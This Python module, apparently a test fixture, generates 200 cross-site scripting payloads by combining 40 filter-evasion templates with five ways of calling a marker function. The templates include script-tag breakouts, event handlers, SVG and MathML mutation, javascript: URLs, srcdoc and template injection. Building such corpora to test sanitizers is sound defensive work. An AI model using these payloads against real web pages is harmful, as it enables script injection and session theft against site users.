"""200 texts that run `xss()` where a page takes text for markup or code: forms times ways of calling it.

Source: the families of the OWASP "XSS Filter Evasion Cheat Sheet" (handlers, SVG and MathML, srcdoc, schemes, breaking
out of attributes, comments, scripts and templates, case and entity tricks), written anew.
"""

from __future__ import annotations

_FORMS = (
    "<script>{call}</script>",
    "</script><script>{call}</script>",
    '"><script>{call}</script>',
    "'><script>{call}</script>",
    "--><script>{call}</script>",
    "</textarea><script>{call}</script>",
    "</title><script>{call}</script>",
    "]]><script>{call}</script>",
    "<scr<script>ipt>{call}</scr</script>ipt>",
    "<ScRiPt >{call}</sCrIpT >",
    '<script type="module">{call}</script>',
    '<img src=x onerror="{call}">',
    "<IMG SRC=x OnErRoR={call}>",
    '<img/src="x"/onerror="{call}"/>',
    '"><img src=x onerror="{call}">',
    '<svg onload="{call}">',
    "<svg><script>{call}</script></svg>",
    '<svg><animate onbegin="{call}" attributeName=x dur=1s>',
    '<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror={call} src=x>">',
    '<body onload="{call}">',
    '<iframe srcdoc="<script>parent.{call}</script>"></iframe>',
    '<iframe src="javascript:parent.{call}"></iframe>',
    '<a href="javascript:{call}" id=a autofocus>click</a>',
    '<a href="java&#115;cript:{call}">click</a>',
    '<input autofocus onfocus="{call}">',
    '<details open ontoggle="{call}">x</details>',
    '<video><source onerror="{call}"></video>',
    '<audio src=x onerror="{call}">',
    '<marquee onstart="{call}">x</marquee>',
    '<object data="javascript:{call}"></object>',
    '<embed src="javascript:{call}">',
    '<style>@keyframes k{{}}</style><p style="animation:k 1ms" onanimationstart="{call}">x</p>',
    '<form><button formaction="javascript:{call}" autofocus>x</button></form>',
    '<meta http-equiv="refresh" content="0;url=javascript:{call}">',
    '<base href="javascript:{call}//">',
    "<noscript><p title=\"</noscript><img src=x onerror='{call}'>\">",
    "<template><img src=x onerror={call}></template><svg/onload={call}>",
    "{{{{constructor.constructor('{call}')()}}}}",
    "${{{call}}}`-{call}-`';{call}//\";{call}//",
    "[click](javascript:{call}) ![x](x'onerror='{call})",
)
_CALLS = ("xss()", "window.xss()", "self['xss']()", "top['x'+'ss'](1)", "globalThis.xss(1)")

PAYLOADS = tuple(form.format(call=call) for form in _FORMS for call in _CALLS)
